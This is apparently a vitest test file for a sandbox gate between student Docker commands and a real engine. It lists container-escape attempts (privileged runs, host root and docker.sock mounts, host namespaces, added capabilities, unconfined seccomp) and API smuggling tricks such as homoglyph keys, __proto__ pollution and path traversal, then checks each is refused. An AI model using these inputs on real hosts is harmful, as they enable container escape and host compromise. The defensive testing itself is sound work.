/** The gate between a real bench and a real engine: what students type works, what attackers type has no effect. */
import { describe, expect, it } from 'vitest';
import { baseImage, startForTest, type } from '../start-for-test.test-support.ts';

const timeoutMs = 120_000;
const run = (options: string, command = 'true') =>
  `docker run --name attack ${options} ${baseImage} ${command}`;
const api = (path: string, body: object | string) =>
  `curl -s --unix-socket /drydock/docker.sock -H Content-Type:application/json -d '${typeof body === 'string' ? body : JSON.stringify(body)}' 'http://d${path}'`;
const create = (extra: string) =>
  api(
    '/v1.45/containers/create?name=attack',
    `{"Image":"${baseImage}","Cmd":["id"]${extra === '' ? '' : `,${extra}`}}`,
  );

const typedAttacks = [
  run('--privileged'),
  run('-v /:/host', 'touch /host/canary'),
  run('--mount type=bind,src=/,dst=/host', 'touch /host/canary'),
  run('-v /workspace/../run:/host'),
  run('-v /var/run/docker.sock:/var/run/docker.sock'),
  ...['pid', 'ipc', 'uts', 'network', 'userns', 'cgroupns'].map((namespace) => run(`--${namespace}=host`)),
  ...['SYS_ADMIN', 'ALL', 'CAP_NET_ADMIN'].map((capability) => run(`--cap-add ${capability}`)),
  run('--device /dev/null:/dev/x'),
  run("--device-cgroup-rule 'b *:* rwm'"),
  ...['seccomp=unconfined', 'apparmor=unconfined', 'systempaths=unconfined', 'label=disable'].map((option) =>
    run(`--security-opt ${option}`),
  ),
  run('--cgroup-parent /'),
  run('--runtime io.containerd.runc.v2'),
  run('--sysctl kernel.core_pattern=x'),
  run('--log-driver syslog --log-opt syslog-address=unix:///run/docker.sock'),
  run('--gpus all'),
  run('--volume-driver x -v a:/a'),
  run('--annotation a=b'),
  run('-v /workspace:/w:rshared'),
  run("--mount 'type=volume,src=attack,dst=/x,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/'"),
  'docker volume create -o type=none -o o=bind -o device=/ attack',
  'docker network create -d macvlan -o parent=lo attack',
  'docker network create -o com.docker.network.bridge.name=docker0 attack',
  'docker plugin install attack',
  'docker swarm init',
  'docker exec --privileged plain id',
  'docker network connect host plain',
  'docker import http://192.0.2.2:1/x attack',
  'DOCKER_BUILDKIT=0 docker build -t attack --network host .',
  'docker build -t attack --network host .',
  'DOCKER_BUILDKIT=0 docker build -t attack --cgroup-parent /escape .',
  'docker buildx build -t attack --allow security.insecure -f Insecure .',
  'docker buildx build -t attack --allow network.host --network host .',
];

const spelledAttacks = [
  create('"hostconfig":{"privileged":true}'),
  create('"HostConfig":{"privileged":true}'),
  create('"HoſtConfig":{"Privileged":true}'),
  create('"__proto__":{"x":1},"HostConfig":{"__proto__":{"Privileged":true}}'),
  create('"Privileged":true'),
  create('"HostConfig":{"MaskedPaths":[],"ReadonlyPaths":[]}'),
  api('/containers/plain/update', { Devices: [{ PathOnHost: '/dev/sda' }] }),
  api('/v1.18/containers/plain/start', { Privileged: true }),
  api('/plugins', ''),
  api('/build?networkmode=host&networkmode=default&t=attack', ''),
  api('/containers/create/../../swarm/init', {}),
];

describe('Gate', () => {
  it('lets no attack from the bench have an effect', { timeout: timeoutMs }, async () => {
    const files = {
      Dockerfile: `FROM ${baseImage}\nRUN ip a || cat /proc/net/dev\n`,
      Insecure: `FROM ${baseImage}\nRUN --security=insecure id\n`,
    };
    await using sandbox = await startForTest(files);
    const lines = [`docker run -d --name plain ${baseImage} sleep 600`, ...typedAttacks, ...spelledAttacks];
    const { evidence } = await type(sandbox, `${lines.join('\n')}\n`);
    expect(evidence.commands[0]).toMatchObject({ exitCode: 0 });
    const succeeded = evidence.commands
      .slice(1, typedAttacks.length + 1)
      .filter(({ exitCode }) => exitCode === 0);
    expect(succeeded.map(({ text }) => text)).toEqual([]);
    for (const { text, output } of evidence.commands.slice(typedAttacks.length + 1)) {
      expect(`${text}: ${output}`).toContain('{"message":"drydock: ');
    }
    expect((await sandbox.daemon.containers()).map(({ name }) => name)).toEqual(['plain']);
    expect(await sandbox.daemon.image('attack')).toBeUndefined();
    const calls = evidence.calls.filter(({ refused, status }) => !refused && status !== null && status < 300);
    expect(calls.filter(({ path }) => /swarm|plugins|volumes\/create|networks\/create/.test(path))).toEqual(
      [],
    );
  });

  it('takes the last of duplicate keys, and so does the engine', { timeout: timeoutMs }, async () => {
    await using sandbox = await startForTest();
    const twice = create('"HostConfig":{"Privileged":true},"HostConfig":{}');
    const { evidence } = await type(
      sandbox,
      `${twice}\ndocker inspect -f '{{.HostConfig.Privileged}}' attack\n`,
    );
    expect(evidence.commands[1]?.output.trim()).toBe('false');
  });

  it('carries what the course types, both ways and to the end', { timeout: timeoutMs }, async () => {
    await using sandbox = await startForTest({
      'app/Dockerfile': `FROM ${baseImage}\nCMD ["echo", "built"]\n`,
    });
    const expected: (readonly [string, string])[] = [
      [`docker run -d --name web ${baseImage} sleep 600`, ''],
      ['echo piped | docker exec -i web cat', 'piped'],
      [`echo hello | docker run --rm -i ${baseImage} cat`, 'hello'],
      ['docker exec -it web tty', '/dev/pts/0'],
      ['head -c 3000000 /dev/zero | docker exec -i web wc -c', '3000000'],
      ["docker exec web sh -c 'head -c 3000000 /dev/zero' | wc -c", '3000000'],
      ['echo note > note; docker cp note web:/tmp/note; docker exec web cat /tmp/note', 'note'],
      ['docker cp web:/tmp/note - | tar -xO', 'note'],
      ['DOCKER_BUILDKIT=0 docker build -q -t classic app && docker run --rm classic', 'built'],
      ['docker build -q -t modern app && docker run --rm modern', 'built'],
      ['docker save classic -o image.tar && docker load -i image.tar', 'Loaded image: classic'],
      ['docker export web | docker import - flat', 'sha256:'],
      ["docker commit -c 'ENV A=1' web kept && docker run --rm kept printenv A", '1'],
      [`docker run --rm -v $PWD/app:/app -v data:/data ${baseImage} ls /app`, 'Dockerfile'],
      [`docker network create net && docker run --rm --network net ${baseImage} echo joined`, 'joined'],
      ['docker stats --no-stream web', 'web'],
      ['docker top web; docker port web; docker diff web', 'sleep 600'],
      ['docker update --memory 64m --memory-swap 64m web', 'web'],
      ['docker inspect library/nosuch:1.0', 'No such object: library/nosuch:1.0'],
      ['docker system df', 'Images'],
      ['docker stop -t 0 web; docker wait web', '137'],
    ];
    const { evidence } = await type(sandbox, `${expected.map(([line]) => line).join('\n')}\n`);
    for (const [index, [line, output]] of expected.entries()) {
      expect(`${line} => ${evidence.commands[index]?.output}`).toContain(output);
    }
    expect(evidence.calls.filter(({ refused }) => refused)).toEqual([]);
    expect(evidence.calls.filter(({ durationMs }) => durationMs === null)).toEqual([]);
  });
});
